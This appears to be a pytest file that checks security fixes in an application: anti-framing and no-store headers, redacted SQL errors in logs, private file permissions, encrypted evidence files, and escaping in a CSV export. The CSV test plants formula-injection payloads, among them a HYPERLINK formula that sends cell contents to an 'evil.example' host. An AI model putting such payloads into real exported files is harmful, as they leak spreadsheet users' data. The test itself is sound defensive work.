"""Issue 23 point 6: framing and caching headers, no SQL parameters in logs, private files,
evidence encrypted at rest, and a rejected-rows CSV that a spreadsheet will not execute."""

from __future__ import annotations

import csv
import io
import logging
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import select, text
from sqlalchemy.exc import DBAPIError, IntegrityError

from pcip import clock
from pcip.auth import service as auth
from pcip.config import Settings
from pcip.kernel.logredact import RedactingFilter
from pcip.kernel.platform import Platform, initialise
from pcip.objections.evidence import SEALED_MAGIC, read, seal_plaintext_files
from pcip.objections.models import Evidence
from tests.records.builders import penalty_rows
from tests.world import ACTOR, NOW, World, WorldData, reopen


@pytest.fixture
def world(platform: Platform, api_world_data: WorldData) -> Iterator[World]:
    with clock.frozen(NOW):
        yield reopen(platform, api_world_data)


# --- headers ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("caller", "url"),
    [
        (None, "/"),
        (None, "/persons"),
        (None, "/api/v1/health"),
        ("subject_a", "/api/v1/me/records"),
        ("staff", "/api/v1/batches"),
        (None, "/api/v1/no-such-thing"),
    ],
)
def test_issue23_p6_every_answer_refuses_framing_and_caching(
    world: World, caller: str | None, url: str
) -> None:
    with clock.frozen(NOW):
        r = world.client.get(url, headers=world.auth(caller))
    assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
    assert r.headers["x-frame-options"] == "DENY"
    assert r.headers["cache-control"] == "no-store"
    assert r.headers["x-content-type-options"] == "nosniff"


def test_issue23_p6_static_files_keep_their_caching(world: World) -> None:
    r = world.client.get("/static/css/pcip.css")
    if r.status_code == 404:
        css = next((Path(__file__).parents[2] / "pcip/web/static/css").glob("*.css"))
        r = world.client.get(f"/static/css/{css.name}")
    assert r.status_code == 200
    assert r.headers.get("cache-control") != "no-store"
    assert r.headers["x-frame-options"] == "DENY"


# --- logs ------------------------------------------------------------------------------------


def _formatted(exc: BaseException) -> str:
    record = logging.LogRecord("pcip", logging.ERROR, __file__, 1, "failed", None, None)
    record.exc_info = (type(exc), exc, exc.__traceback__)
    RedactingFilter().filter(record)
    return logging.Formatter().format(record)


def test_issue23_p6_a_database_error_in_a_log_shows_no_parameters(platform: Platform) -> None:
    """Before: a failed statement's text carried its parameters (names, purposes)."""
    secret = "张三的借款用途"
    with pytest.raises(DBAPIError) as failed, platform.transaction() as s:
        s.execute(
            text("SELECT CAST(:v AS INTEGER) + CAST(:v AS INTEGER) FROM no_such_table"),
            {"v": secret},
        )
    assert secret not in str(failed.value)
    assert secret not in _formatted(failed.value)


def test_issue23_p6_a_unique_violation_in_a_log_shows_no_value(platform: Platform) -> None:
    """PostgreSQL's DETAIL line quotes the duplicate value; the log filter removes it."""
    name = "secret.username"
    with platform.transaction() as s:
        auth.add_account(s, ACTOR, username=name, password="x" * 12, role="operator")
    with pytest.raises(IntegrityError) as failed, platform.transaction() as s:
        s.execute(
            text(
                "INSERT INTO account (username, display_name, role, password_hash, created_at) "
                "SELECT username, display_name, role, password_hash, created_at FROM account "
                "WHERE username = :u"
            ),
            {"u": name},
        )
    assert name not in _formatted(failed.value)


# --- files -----------------------------------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_issue23_p6_the_sqlite_file_and_home_are_private(tmp_path: Path) -> None:
    """Before: the SQLite database was created world-readable (umask 022: 0644)."""
    home = tmp_path / "home"
    settings = Settings(database_url=f"sqlite:///{home / 'pcip.sqlite3'}", home=home)
    platform, _ = initialise(settings)
    platform.dispose()
    assert _mode(home / "pcip.sqlite3") == 0o600
    assert _mode(home) == 0o700
    assert _mode(settings.files_dir) == 0o700
    assert _mode(settings.keys_dir) == 0o700
    assert _mode(settings.keys_dir / "keyring.json") == 0o600


def test_issue23_p6_evidence_is_stored_encrypted_and_old_plaintext_files_are_sealed(
    world: World,
) -> None:
    """Before: evidence files were written as uploaded, in the clear."""

    platform = world.platform
    content = "本人已于2026年10月1日缴清罚款，缴款凭证号 PZ-7788。\n".encode()
    with clock.frozen(NOW):
        r = world.client.get("/api/v1/me/records", headers=world.auth("subject_a"))
        record_id = r.json()[0]["record_id"] if isinstance(r.json(), list) else None
        if record_id is None:
            record_id = r.json()["records"][0]["record_id"]
        r = world.client.post(
            "/api/v1/me/objections",
            headers=world.auth("subject_a"),
            data={"record_ids": str(record_id), "ground": "error", "statement": "金额有误"},
            files=[("evidence", ("proof.txt", content, "text/plain"))],
        )
    assert r.status_code == 201, r.text
    files = platform.settings.files_dir
    with platform.transaction() as s:
        row = s.scalars(select(Evidence).order_by(Evidence.id.desc())).first()
        assert row is not None
        stored = (files / row.stored_path).read_bytes()
        assert stored.startswith(SEALED_MAGIC) and content not in stored
        assert read(row, files) == content
        # A file stored before encryption is still read, and init seals it in place.
        (files / row.stored_path).write_bytes(content)
        assert read(row, files) == content
        assert seal_plaintext_files(s, files)[0] == 1
        assert (files / row.stored_path).read_bytes().startswith(SEALED_MAGIC)
        assert read(row, files) == content


# --- the rejected-rows CSV -------------------------------------------------------------------


def test_issue23_p6_the_rejected_rows_csv_escapes_formulas(world: World) -> None:
    """OWASP CSV injection: a submitted value starting with = + - @ tab or CR must not reach
    a spreadsheet as a formula. Before: written as submitted."""
    rows = penalty_rows(world.platform, 1, seed=77)
    rows[0]["CF_XDR_SHXYM"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows[0]["CF_NR_WFXW"] = "@SUM(1+1)"
    rows[0]["CF_WSH"] = "-2+3"
    rows[0]["CF_BZ"] = "\tcmd"
    with clock.frozen(NOW):
        r = world.client.post(
            "/api/v1/batches",
            json={"item": "admin_penalty", "rows": rows},
            headers=world.auth("unit_key"),
        )
        assert r.status_code == 201 and r.json()["rejected"] == 1, r.text
        batch = r.json()["batch_id"]
        r = world.client.get(f"/api/v1/batches/{batch}/rejected", headers=world.auth("unit_key"))
    report = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))
    assert report[0]["CF_XDR_SHXYM"].startswith("'=HYPERLINK")
    assert report[0]["CF_NR_WFXW"] == "'@SUM(1+1)"
    assert report[0]["CF_WSH"] == "'-2+3"
    assert report[0]["CF_BZ"] == "'\tcmd"
    for value in report[0].values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
